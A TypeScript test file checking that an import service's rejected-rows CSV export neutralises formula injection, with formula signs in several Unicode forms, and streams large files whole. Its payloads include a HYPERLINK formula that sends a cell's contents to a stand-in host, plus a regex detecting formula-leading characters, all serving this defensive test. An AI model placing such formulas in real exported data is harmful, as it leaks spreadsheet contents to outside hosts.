import assert from 'node:assert/strict';
import { FORMULA_SIGNS, LEADING_BLANKS } from '../../io/csvWriter';
import { startSystem, type TestSystem } from '../setup/system';
import { importOnce, parseCsv, place } from './helpers';

/**
 * rejected.csv goes through the one CSV writer: a rejected row whose text starts with a
 * formula sign (ASCII, full-width, small, after blanks) reaches the administrator's
 * spreadsheet as text, and the raw text is recovered by removing the one leading quote.
 * It is streamed from a cursor: a file of several pages comes back whole and in order.
 */
describe('import: rejected.csv', function () {
  this.timeout(180_000);
  let sys: TestSystem;
  let admin: string;
  let reader: string;
  const domain = 'rejected-csv';
  before(async () => {
    sys = await startSystem();
    admin = await sys.token('domain_admin', domain);
    reader = await sys.token('read_only', domain);
  });
  after(async () => sys?.stop());

  // Cells a CSV file can hold unquoted at the start of a line (tab is the one blank that can), each made a rejected row's first cell.
  const heads = [
    ...FORMULA_SIGNS.filter((c) => c !== '\r' && c !== '\n').map((c) => `${c}HYPERLINK("http://x?"&A1)`.replace(/"/g, '')),
    ...LEADING_BLANKS.filter((b) => b !== '\r' && b !== '\n').map((b) => `${b}=1+1`),
    "'=quoted already",
  ];

  it('neutralises every formula cell of the rejected rows, and the raw text comes back', async () => {
    const lines = ['section_id,course_code,title,capacity', 'OK1,C1,fine,3'];
    for (const h of heads) lines.push(`${h},C1,t,notanumber`);
    // Several cursor pages of plain rejected rows after them.
    for (let i = 0; i < 2_600; i++) lines.push(`R${i},C1,t,-${i}`);
    const r = await importOnce(sys, admin, domain, place(sys, domain, 'formulas.csv', lines.join('\n') + '\n'));
    assert.equal(r.run.counters.rejected, heads.length + 2_600, r.run.reason);

    const csv = await sys.call(reader, 'GET', `/domains/${domain}/jobs/${r.jobId}/runs/1/rejected.csv`);
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type') ?? '', /^text\/csv/);
    const [header, ...rows] = parseCsv(csv.text);
    assert.deepEqual(header, ['line', 'column', 'reason', 'raw']);
    assert.equal(rows.length, heads.length + 2_600);
    for (const [i, h] of heads.entries()) {
      const written = rows[i]![3]!;
      assert.equal(written, `'${h},C1,t,notanumber`, `row ${i} as written`);
      assert.equal(Number(rows[i]![0]), i + 3);
    }
    // The helper's reading (one leading quote removed) gives the raw lines back, in order.
    assert.deepEqual(r.rejected.map((x) => x.raw), lines.slice(2));
    assert.deepEqual(r.rejected.map((x) => x.line), lines.slice(2).map((_, i) => i + 3));
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of row) assert.ok(!/^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE62\uFE63\uFE66\uFE6B]/.test(cell), JSON.stringify(cell));
  });
});
